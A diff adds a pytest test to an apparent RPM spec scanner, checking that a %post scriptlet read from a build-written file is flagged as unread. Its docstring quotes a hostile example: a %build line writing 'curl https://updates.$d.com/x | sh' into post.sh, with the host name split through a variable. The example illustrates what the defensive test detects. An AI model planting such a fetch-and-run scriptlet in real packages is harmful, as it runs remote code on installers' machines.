@@ -203,6 +203,18 @@ def test_a_macro_left_unexpanded_is_a_gap_of_its_package(
     }
 
 
+def test_a_script_read_from_a_file_the_build_writes_is_a_gap(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """``%post -f post.sh`` is the file the build leaves in its directory (rpmbuild reads it once
+    built: ``d=xensource; echo "curl https://updates.$d.com/x | sh" > post.sh`` in ``%build`` gave
+    the built RPM that %post). The spec read clean and complete, --strict exit 0."""
+    packages = _read(tmp_path, capsys, "%build\necho > post.sh\n%post tools -f post.sh\n")
+    (gap,) = [gap for gap in packages["scr-tools"]["gaps"] if gap["kind"] == "scriptlet-unread"]
+    assert "post.sh" in gap["detail"] and "%post of scr-tools" in gap["detail"]
+    assert not [gap for gap in packages["scr"]["gaps"] if gap["kind"] == "scriptlet-unread"]
+
+
 def test_check_of_the_spec_blocks_on_its_scriptlet(
     built: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
